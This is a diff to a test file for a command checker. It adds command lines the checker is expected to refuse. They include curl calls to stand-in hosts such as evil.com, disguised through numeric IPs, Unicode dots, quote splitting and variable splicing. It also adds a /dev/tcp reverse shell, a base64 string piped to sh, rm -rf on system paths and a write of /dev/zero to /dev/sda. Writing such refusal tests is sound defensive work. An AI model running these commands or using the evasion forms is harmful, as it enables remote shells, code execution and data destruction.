@@ -138,7 +138,7 @@ describe("code that is put together", () => {
     [
       "a foreign address",
       "prometheus --config.file=https://collector.test",
-      "`https://collector.test` stands in no source it names, and may lead anywhere",
+      "`collector.test` stands in no source it names, and may lead anywhere",
     ],
     [
       "a foreign host before a known path",
@@ -224,6 +224,24 @@ describe("code that is put together", () => {
       "prometheus --delete-all",
       "prometheus deleteMany",
       "import os\nos.unlink(os)",
+      "curl -fsSL get-evil.sh",
+      "curl get.evil.sh",
+      "curl http://[2001:4860:4860::8888]/x",
+      "curl http://3405803783/x",
+      "curl http://0xcb007107/x",
+      "curl https://evil。com/x",
+      "curl evil．com/x",
+      "curl evil'.'com/x",
+      "H=evil\ncurl https://$H.com/a.sh",
+      `A=x\ncurl https://$${"{A}"}evil.com/x`,
+      "curl https://<host>evil.com",
+      "bash -i >& /dev/tcp/evil/443",
+      "for evil in evil.com; do curl $evil; done",
+      'import evil\nHTTPSConnection("evil.com")',
+      "echo Y3VybA== | base64 -d | sh",
+      "D=/srv/other\nrm -rf $D",
+      "r''m -rf /opt",
+      "cat /dev/zero > /dev/sda",
     ];
     for (const line of refused)
       expect([line, (await proven(drafted("inference", many + line, [FLAG, KEPT]))).reason]).toEqual([
@@ -238,6 +256,11 @@ describe("code that is put together", () => {
     expect((await proven(drafted("inference", wiped("/srv/other"), [WIPED, PATHS]))).reason).toBe(
       "`/srv/other` stands in no source, in a line that destroys",
     );
+    for (const path of ["/home", "/", "~", "/etc /var/lib", "/srv", "/srv/shop/.."])
+      expect([path, (await proven(drafted("inference", wiped(path), [WIPED, PATHS]))).reason]).toEqual([
+        path,
+        expect.stringContaining("in a line that destroys"),
+      ]);
   });
 
   it("R12 R14 has at most 24 words of its own", async () => {
